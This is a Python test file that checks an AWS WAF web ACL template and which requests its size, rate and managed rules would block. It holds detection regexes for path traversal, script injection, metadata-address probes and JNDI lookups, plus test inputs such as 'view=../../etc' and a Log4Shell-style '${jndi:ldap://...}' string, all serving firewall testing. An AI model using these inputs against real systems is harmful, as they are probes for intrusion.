"""The web ACL: which requests its rules can block. No emulator enforces them, so these tests read the template."""

import json
import re
from dataclasses import dataclass
from typing import Any

import pytest

from infra.firewall import CALLBACK_ROUTE, CALLS_PER_ADDRESS, CALLS_ROUTE, REQUESTS_PER_ADDRESS
from infra.function_specs import SPECS
from jitney import resources
from jitney.adapters.aws_models import AwsModels
from jitney.core.gateway.call_request import MAX_CALL_BYTES, parse_call
from jitney.core.gateway.parameters import checked_parameters
from tests.infra.call_bodies import CALLS
from tests.infra.conftest import only, plain

pytestmark = pytest.mark.xdist_group("cdk")

INSPECTED_BYTES = 65_536
LONGEST_QUERY = 2_048
"""The limit of SizeRestrictions_QUERYSTRING, a rule of AWSManagedRulesCommonRuleSet."""
# What AWS's managed rules look for in a body or a query, as their documentation describes it. AWS does not publish the
# patterns. https://docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-baseline.html
PATTERNS = {
    "AWSManagedRulesCommonRuleSet": r"\.\./\.\.|<script|on(error|load)=|https?://(\d+\.){3}\d+|169\.254\.169\.254",
    "AWSManagedRulesKnownBadInputsRuleSet": r"\$\{jndi:|java\.lang\.Runtime",
}


@dataclass(frozen=True)
class Sent:
    """A request as the firewall sees it."""

    path: str
    body: bytes = b""
    verb: str = "POST"
    query: str = ""


def matches(statement: dict[str, Any], sent: Sent) -> bool:
    """Return whether a statement of the template matches, rates aside. Raises ValueError for one that is not known."""
    ((kind, of),) = statement.items()
    match kind:
        case "NotStatement":
            return not matches(of["Statement"], sent)
        case "AndStatement":
            return all(matches(each, sent) for each in of["Statements"])
        case "ByteMatchStatement":
            assert [each["Type"] for each in of["TextTransformations"]] == ["NONE"]
            if of["FieldToMatch"] == {"Method": {}}:
                assert of["PositionalConstraint"] == "EXACTLY"
                return sent.verb == str(of["SearchString"])
            assert (of["FieldToMatch"], of["PositionalConstraint"]) == ({"UriPath": {}}, "ENDS_WITH")
            return sent.path.endswith(of["SearchString"])
        case "SizeConstraintStatement":
            assert (of["ComparisonOperator"], of["FieldToMatch"]) == ("GT", {"Body": {"OversizeHandling": "MATCH"}})
            return len(sent.body) > of["Size"]
        case "ManagedRuleGroupStatement":
            return like_an_attack(of["Name"], sent) and matches(of["ScopeDownStatement"], sent)
        case "RateBasedStatement":
            return False
    raise ValueError(kind)


def like_an_attack(group: str, sent: Sent) -> bool:
    """Return whether a group of AWS's managed rules takes a request for an attack."""
    inspected = sent.query + sent.body[:INSPECTED_BYTES].decode()
    is_long = "Common" in group and len(sent.query) > LONGEST_QUERY
    return is_long or bool(re.search(PATTERNS[group], inspected, re.IGNORECASE))


@pytest.fixture(scope="module")
def acl(assembly):
    return only(assembly.broker, "AWS::WAFv2::WebACL")


def blocking(acl: dict[str, Any], sent: Sent) -> list[str]:
    """Return the names of the rules that would block a request."""
    return [
        rule["Name"]
        for rule in acl["Rules"]
        if ("Block" in rule.get("Action", {}) or rule.get("OverrideAction") == {"None": {}})
        and matches(rule["Statement"], sent)
    ]


def call_body(service: str, operation: str, parameters: dict[str, Any]) -> bytes:
    call = {"grant": "g-aaaaaaaaaaaaaa", "service": service, "operation": operation, "parameters": parameters}
    return json.dumps(call).encode()


BODIES = {name: call_body(*call) for name, *call in CALLS}


@pytest.mark.parametrize("name", BODIES)
def test_gw_12_no_rule_blocks_a_call_for_its_body(acl: dict[str, Any], name: str):
    body = BODIES[name]
    assert blocking(acl, Sent(f"/live{CALLS_ROUTE}", body)) == []
    assert blocking(acl, Sent(CALLS_ROUTE, body)) == []  # below a domain of one's own


@pytest.mark.parametrize("call", CALLS, ids=[name for name, *_ in CALLS])
def test_gw_12_the_function_takes_these_bodies(call: tuple[str, str, str, dict[str, Any]]):
    """Each is a call that the gateway makes, so blocking it would be wrong."""
    _, service, operation, parameters = call
    body = call_body(service, operation, parameters)
    assert len(body) <= MAX_CALL_BYTES
    model = AwsModels.load(resources.MODELS.read_bytes()).operation(service, operation)
    assert checked_parameters(parse_call(body).parameters, model, model.service_model.resolved_protocol)


@pytest.mark.parametrize(
    ("verb", "path"), [each for spec in SPECS.values() for each in spec.routes if each[0] != "GET"]
)
def test_no_rule_blocks_text_of_agents_and_people(acl: dict[str, Any], verb: str, path: str):
    """Reasons and comments name addresses, paths and markup. Slack sends the message along with a vote (row REV 9)."""
    text = "".join(body.decode() for body in BODIES.values() if len(body) < 2000).encode()
    assert all(like_an_attack(group, Sent(path, text)) for group in PATTERNS)
    assert blocking(acl, Sent(f"/live{path}", text, verb)) == []
    assert blocking(acl, Sent(f"/live{path}", text * 20, verb)) == ([] if path == CALLS_ROUTE else ["body-size"])


def test_the_managed_rules_inspect_queries(acl: dict[str, Any]):
    for group, text in {
        "AWSManagedRulesCommonRuleSet": "view=../../etc",
        "AWSManagedRulesKnownBadInputsRuleSet": "view=${jndi:ldap://203.0.113.9/a}",
    }.items():
        assert blocking(acl, Sent("/live/reviews", verb="GET", query=text)) == [group]


def test_no_rule_blocks_a_return_from_an_identity_provider(acl: dict[str, Any]):
    """Entra's codes alone may be longer than the longest query: https://github.com/IBM/mcp-context-forge/issues/4490"""
    query = f"code={'x' * LONGEST_QUERY}&error_description=http://203.0.113.9/help"
    assert blocking(acl, Sent("/live/reviews", verb="GET", query=query)) == ["AWSManagedRulesCommonRuleSet"]
    assert blocking(acl, Sent(f"/live{CALLBACK_ROUTE}", verb="GET", query=query)) == []
    assert ("GET", CALLBACK_ROUTE) in SPECS["sign_in"].routes


@pytest.mark.parametrize("path", ["/live/v1/calls%2f", "/live/v1%2fcalls", "/live/v1/calls/c-aaaaaaaaaaaaaa"])
def test_gw_12_only_the_route_itself_is_excepted(acl: dict[str, Any], path: str):
    assert blocking(acl, Sent(path, b"a" * (INSPECTED_BYTES + 1))) == ["body-size"]


def test_the_web_acl_limits_size_and_rate_and_is_in_front_of_the_api(acl: dict[str, Any], assembly):
    rules = {rule["Name"]: rule for rule in acl["Rules"]}
    assert list(rules) == [
        "body-size",
        "rate",
        "calls-rate",
        "AWSManagedRulesCommonRuleSet",
        "AWSManagedRulesKnownBadInputsRuleSet",
    ]
    assert blocking(acl, Sent("/live/v1/grants", b"a" * INSPECTED_BYTES)) == []
    assert blocking(acl, Sent("/live/v1/grants", b"a" * (INSPECTED_BYTES + 1))) == ["body-size"]
    assert acl["AssociationConfig"] == {"RequestBody": {"API_GATEWAY": {"DefaultSizeInspectionLimit": "KB_64"}}}
    for name, status in {"body-size": 413, "rate": 429, "calls-rate": 429}.items():
        response = rules[name]["Action"]["Block"]["CustomResponse"]
        body = json.loads(acl["CustomResponseBodies"][response["CustomResponseBodyKey"]]["Content"])
        assert response["ResponseCode"] == body["status"] == status
    association = only(assembly.broker, "AWS::WAFv2::WebACLAssociation")
    assert "/stages/ApiRestApiDeploymentStagelive" in plain(association["ResourceArn"])


def test_gw_12_calls_and_other_requests_have_rates_of_their_own(acl: dict[str, Any]):
    """A flood of calls from one address leaves that address's revocations alone."""
    rates = {rule["Name"]: rule["Statement"].get("RateBasedStatement") for rule in acl["Rules"]}
    limits = {name: (rate["AggregateKeyType"], rate["Limit"]) for name, rate in rates.items() if rate}
    assert limits == {"rate": ("IP", REQUESTS_PER_ADDRESS), "calls-rate": ("IP", CALLS_PER_ADDRESS)}
    for path, counted in {f"/live{CALLS_ROUTE}": "calls-rate", "/live/v1/grants/{id}/revocation": "rate"}.items():
        sent = Sent(path, b"")
        assert [name for name in limits if matches(rates[name]["ScopeDownStatement"], sent)] == [counted]


def test_the_web_acl_samples_no_requests(acl: dict[str, Any]):
    configs = [acl["VisibilityConfig"], *(rule["VisibilityConfig"] for rule in acl["Rules"])]
    assert {config["SampledRequestsEnabled"] for config in configs} == {False}
